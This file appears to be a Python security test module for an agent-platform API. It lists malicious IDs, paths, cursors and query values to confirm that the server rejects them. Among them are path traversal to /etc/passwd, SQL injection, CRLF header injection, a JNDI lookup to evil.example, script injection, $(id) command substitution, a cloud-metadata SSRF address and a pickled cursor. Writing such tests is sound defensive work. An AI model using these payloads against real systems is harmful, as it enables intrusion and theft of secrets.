"""Ids that are no ids, and queries that ask for what there is not."""

from __future__ import annotations

import base64
import pickle

from tests.security.hostile.kinds import KEY, PLAIN, Hostile, get

from freehold.core import cursors
from freehold.core.cursors import Cursor

TOKEN = "011CZkYpogX7uDKUyvBTophP"

WRONG_IDS = {
    "that climbs": "../../../etc/passwd",
    "that climbs, encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "that climbs, encoded twice": "%252e%252e%252fetc%252fpasswd",
    "that climbs, overlong": "%c0%ae%c0%ae%c0%af",
    "that climbs backwards": "..%5c..%5cwindows%5cwin.ini",
    "that climbs with a semicolon": "..;/..;/manager",
    "with a NUL": f"agent_{TOKEN}%00",
    "with a NUL before an ending": "agent_x%00.json",
    "with a line break": f"agent_{TOKEN}%0a",
    "with a header": "agent_x%0d%0aSet-Cookie:%20a=b",
    "with a space": f"agent_{TOKEN}%20",
    "with a tab": f"%09agent_{TOKEN}",
    "from right to left": f"agent_%e2%80%ae{TOKEN}",
    "with a joiner": f"agent_%e2%80%8d{TOKEN}",
    "in fullwidth": "%ef%bd%81gent_" + TOKEN,
    "of half a character": "agent_%f0%9f%98",
    "of an emoji": "%f0%9f%98%80",
    "of a bad escape": "agent_%zz",
    "of a lone percent sign": "agent_%",
    "of SQL": "agent_'%20OR%20'1'='1",
    "of more SQL": "1;DROP%20TABLE%20agents--",
    "of a pattern": "agent_%25",
    "of an underscore": "agent________________________",
    "of a star": "*",
    "of a template": "%7B%7B7*7%7D%7D",
    "of a lookup": "$%7Bjndi:ldap://evil.example/a%7D",
    "of a script": "%3Cscript%3Ealert(1)%3C/script%3E",
    "of a program": "$(id)",
    "of a pipe": "%7Cid",
    "null": "null",
    "undefined": "undefined",
    "zero": "0",
    "minus one": "-1",
    "a dot": ".",
    "two dots": "..",
    "of another kind": f"env_{TOKEN}",
    "in capitals": f"AGENT_{TOKEN}",
    "without a prefix": TOKEN,
    "of a prefix": "agent_",
    "too long by one": f"agent_{TOKEN}x",
    "too short by one": f"agent_{TOKEN}"[:-1],
    "with letters that no id has": f"agent_{TOKEN[:-1]}l",
    "of ten thousand letters": "agent_" + "x" * 10_000,
    "of a thousand escapes": "%25" * 1000,
    "with a matrix": f"agent_{TOKEN};a=b",
    "with an at sign": f"agent_{TOKEN}@evil.example",
    "that is an address": "http://169.254.169.254/latest",
}

IDS = [get(f"an agent's id {name}", f"/v1/agents/{id_}") for name, id_ in WRONG_IDS.items()]

_PLACES = [
    ("a session", "GET", "/v1/sessions/{}"),
    ("a session's events", "GET", "/v1/sessions/{}/events"),
    ("a session's stream", "GET", "/v1/sessions/{}/events/stream"),
    ("a thread", "GET", "/v1/sessions/@session@/threads/{}"),
    ("a thread's stream", "GET", "/v1/sessions/@session@/threads/{}/stream"),
    ("a resource", "DELETE", "/v1/sessions/@session@/resources/{}"),
    ("an environment", "DELETE", "/v1/environments/{}"),
    ("a work item", "GET", "/v1/environments/@environment@/work/{}"),
    ("a vault", "DELETE", "/v1/vaults/{}"),
    ("a credential", "DELETE", "/v1/vaults/@vault@/credentials/{}"),
    ("a memory store", "DELETE", "/v1/memory_stores/{}"),
    ("a memory", "DELETE", "/v1/memory_stores/@store@/memories/{}"),
    ("a memory's version", "GET", "/v1/memory_stores/@store@/memory_versions/{}"),
    ("a file", "DELETE", "/v1/files/{}"),
    ("a file's content", "GET", "/v1/files/{}/content"),
    ("a skill", "DELETE", "/v1/skills/{}"),
    ("a skill's version", "GET", "/v1/skills/xlsx/versions/{}"),
    ("a skill's content", "GET", "/v1/skills/xlsx/versions/{}/content"),
    ("a model", "GET", "/v1/models/{}"),
    ("a deployment", "GET", "/v1/deployments/{}"),
    ("a deployment's run", "GET", "/v1/deployment_runs/{}"),
    ("a workspace", "GET", "/v1/organizations/workspaces/{}"),
    ("an API key", "GET", "/v1/organizations/api_keys/{}"),
]
_SHARP = {
    "climbs": "..%2f..%2f..%2fetc%2fpasswd",
    "has a NUL and a line break": "a%00%0d%0ab",
    "is half a character": "%f0%9f",
}
EVERYWHERE = [
    Hostile(f"{what} whose id {name}", method, path.format(id_), None, KEY)
    for what, method, path in _PLACES
    for name, id_ in _SHARP.items()
]
"""Those of the organization are refused to a key that is no admin's."""

PATHS = [
    get("a path that leaves the API", "/v1/../../etc/passwd"),
    get("a path with two slashes", "/v1//agents"),
    get("a path that begins with two", "//v1/agents"),
    get("a path with a backslash", "/v1\\agents"),
    get("a path in capitals", "/V1/AGENTS"),
    get("an encoded slash", "/v1%2fagents"),
    get("an id that is another route", "/v1/agents/@agent@%2Fversions"),
    Hostile("an id that does something", "POST", "/v1/agents/@agent@%2farchive", b"", KEY),
    Hostile("an id that deletes something", "DELETE", "/v1/vaults%2f@vault@", None, KEY),
    get("an encoded letter and a NUL", "/v1/%61gents%00"),
    get("a hidden file", "/.git/config"),
    get("an environment file", "/.env"),
    get("a database", "/freehold.db"),
    get("a data folder", "/v1/files/../../data/freehold.db"),
    get("a path of a thousand parts", "/v1" + "/a" * 1000),
    get("something of a program", "/cgi-bin/.%2e/.%2e/bin/sh"),
    get("a version that there is not", "/v2/agents"),
    get("a dot for a resource", "/v1/."),
]


def forged(name: str, *key: int | str, order: str = "desc") -> str:
    return cursors.encode(Cursor(name, order, "next", key))  # type: ignore[arg-type]


def of_bytes(data: bytes) -> str:
    return "page_" + base64.urlsafe_b64encode(data).decode().rstrip("=")


GOOD = forged("agents", 1_700_000_000_000_000, f"agent_{TOKEN}")
AGENT = f"agent_{TOKEN}"

CURSORS = {
    "of another list": ("/v1/agents", forged("environments", 1, AGENT)),
    "of one's own agents for versions": ("/v1/agents/@agent@/versions", GOOD),
    "of agents for sessions": ("/v1/sessions", GOOD),
    "of agents for vaults": ("/v1/vaults", GOOD),
    "of agents for files": ("/v1/files", GOOD),
    "of agents for skills": ("/v1/skills", GOOD),
    "of agents for memories": ("/v1/memory_stores/@store@/memories", GOOD),
    "of agents for memory versions": ("/v1/memory_stores/@store@/memory_versions", GOOD),
    "of agents for events": ("/v1/sessions/@session@/events", GOOD),
    "of agents for deployments": ("/v1/deployments", GOOD),
    "of agents for runs": ("/v1/deployment_runs", GOOD),
    "of the other order": ("/v1/agents", forged("agents", 1, AGENT, order="asc")),
    "cut off": ("/v1/agents", GOOD[:-1]),
    "cut in half": ("/v1/agents", GOOD[: len(GOOD) // 2]),
    "with a letter more": ("/v1/agents", GOOD + "A"),
    "with a letter changed": ("/v1/agents", GOOD[:-2] + ("B" if GOOD[-2] != "B" else "C") + GOOD[-1]),
    "in another case": ("/v1/agents", GOOD.swapcase()),
    "twice": ("/v1/agents", GOOD + GOOD),
    "without its prefix": ("/v1/agents", GOOD.removeprefix("page_")),
    "of nothing": ("/v1/agents", "page_"),
    "of padding": ("/v1/agents", "page_===="),
    "of a pickle": ("/v1/agents", of_bytes(pickle.dumps({"a": 1}))),
    "of a query": ("/v1/agents", of_bytes(b"' OR 1=1 --")),
    "of deep JSON": ("/v1/agents", of_bytes(b"0000" + b"[" * 2000)),
    "of ten thousand letters": ("/v1/agents", "page_" + "A" * 10_000),
    "of a time before time": ("/v1/agents", forged("agents", -(2**62), AGENT)),
    "of a time after time": ("/v1/agents", forged("agents", 2**62, AGENT)),
    "of texts for times": ("/v1/agents", forged("agents", "yesterday", AGENT)),
    "of numbers for ids": ("/v1/agents", forged("agents", 1, 2)),
    "of too many parts": ("/v1/agents", forged("agents", 1, AGENT, 3)),
    "of no parts": ("/v1/agents", forged("agents")),
    "of a path for memories": ("/v1/memory_stores/@store@/memories", forged("memories:@store@", 1, "../../x")),
    "of an event that is none": ("/v1/sessions/@session@/events", forged("events", "x", "y")),
}  # fmt: skip

PAGES = [get(f"a cursor {name}", f"{path}?page={text}") for name, (path, text) in CURSORS.items()]

EVENTS = "/v1/sessions/@session@/events"
MEMORIES = "/v1/memory_stores/@store@/memories"

QUERIES = [
    get("a limit of nothing", "/v1/sessions?limit="),
    get("a limit of five thousand digits", "/v1/sessions?limit=" + "9" * 5000),
    get("a limit with an exponent", "/v1/sessions?limit=1e1"),
    get("a limit in hexadecimal", "/v1/sessions?limit=0x10"),
    get("a limit with a plus", "/v1/sessions?limit=%2B5"),
    get("a limit in other digits", "/v1/sessions?limit=%D9%A3"),
    get("a limit in fullwidth", "/v1/sessions?limit=%EF%BC%91"),
    get("a limit of minus zero", "/v1/sessions?limit=-0"),
    get("a limit with a line break", "/v1/sessions?limit=5%0a"),
    get("a limit with a NUL", "/v1/sessions?limit=5%00"),
    get("a limit that is a list", "/v1/sessions?limit=5,6"),
    get("a limit of SQL", "/v1/sessions?limit=1;drop%20table%20sessions"),
    get("infinity for a limit", "/v1/sessions?limit=Infinity"),
    get("a second limit that is none", "/v1/sessions?limit=5&limit=x"),
    get("an order of chance", "/v1/sessions?order=random"),
    get("an order in capitals", "/v1/sessions?order=DESC"),
    get("an order of SQL", "/v1/sessions?order=asc,(select%201)"),
    get("a status that is none", "/v1/sessions?statuses[]=dead"),
    get("a thousand statuses that are none", "/v1/sessions?" + "statuses[]=x&" * 1000),
    get("a version of zero", "/v1/agents/@agent@?version=0"),
    get("a version of 2^31", "/v1/agents/@agent@?version=2147483648"),
    get("a version of 2^64", "/v1/agents/@agent@?version=18446744073709551616"),
    get("the newest version", "/v1/agents/@agent@?version=latest"),
    get("yes for a boolean", "/v1/agents?include_archived=yes"),
    get("a boolean with a NUL", "/v1/agents?include_archived=true%00"),
    get("a month that is none", "/v1/agents?created_at[gte]=2026-13-01T00:00:00Z"),
    get("a day that is none", "/v1/agents?created_at[gte]=2026-02-30T00:00:00Z"),
    get("a leap second", "/v1/agents?created_at[gte]=2026-01-01T23:59:61Z"),
    get("a zone that is none", "/v1/agents?created_at[gte]=2026-01-01T00:00:00%2B99:99"),
    get("no zone", "/v1/agents?created_at[gte]=2026-01-01T00:00:00"),
    get("the year 0", "/v1/agents?created_at[gte]=0000-01-01T00:00:00Z"),
    get("the year 10000", "/v1/agents?created_at[gte]=10000-01-01T00:00:00Z"),
    get("a time past the end of time", "/v1/agents?created_at[gte]=9999-12-31T23:59:59-14:00"),
    get("a time before its beginning", "/v1/agents?created_at[lte]=0001-01-01T00:00:00%2B14:00"),
    get("now", "/v1/sessions?created_at[gt]=now"),
    get("NaN for a time", "/v1/sessions?created_at[lt]=NaN"),
    get("seconds since 1970", "/v1/sessions?created_at[gt]=1700000000"),
    get("a time of ten thousand zeros", "/v1/sessions?created_at[gt]=" + "0" * 10_000 + "-01-01T00:00:00Z"),
    get("a type of event that is none", f"{EVENTS}?types[]=*"),
    get("a type of event with a NUL", f"{EVENTS}?types[]=user.message%00"),
    get("an order of events that is none", f"{EVENTS}?order=sideways"),
    get("a preview of tools", f"{EVENTS}/stream?event_deltas[]=agent.tool_use"),
    get("a hundred and one previews", f"{EVENTS}/stream?" + "event_deltas[]=agent.message&" * 101),
    get("a prefix that does not end", f"{MEMORIES}?path_prefix=/.."),
    get("a prefix that is relative", f"{MEMORIES}?path_prefix=a/"),
    get("a prefix with a NUL", f"{MEMORIES}?path_prefix=/a%00/"),
    get("a prefix of a pattern", f"{MEMORIES}?path_prefix=%25"),
    get("a depth of two", f"{MEMORIES}?depth=2"),
    get("a depth below zero", f"{MEMORIES}?depth=-1"),
    get("a depth of a billion", f"{MEMORIES}?depth=1000000000"),
    get("a view of everything", f"{MEMORIES}?view=raw"),
    get("an operation that is none", "/v1/memory_stores/@store@/memory_versions?operation=drop"),
    get("a memory's id with a NUL", "/v1/memory_stores/@store@/memory_versions?memory_id=%00"),
    get("a hundred and one files", "/v1/files?" + "&".join(f"ids[]=f{n}" for n in range(101))),
    get("files and a limit", "/v1/files?ids[]=a&limit=5"),
    get("files of a session without its beta", "/v1/files?scope_id=@session@", PLAIN),
    get("a source of skills that is none", "/v1/skills?source=evil"),
    get("a life cycle that is none", "/v1/models?lifecycle[]=undead"),
    get("a model after one that is none", "/v1/models?after_id=../../etc/passwd"),
    get("models after and before", "/v1/models?after_id=a&before_id=b"),
    get("a status of a deployment that is none", "/v1/deployments?status=exploded"),
    get("a status and archived ones", "/v1/deployments?status=active&include_archived=true"),
    get("a trigger that is none", "/v1/deployment_runs?trigger_type=evil"),
    get("an error that is maybe", "/v1/deployment_runs?has_error=maybe"),
    get("work of a cloud", "/v1/environments/@environment@/work/poll"),
]  # fmt: skip

ALL = [*IDS, *EVERYWHERE, *PATHS, *PAGES, *QUERIES]
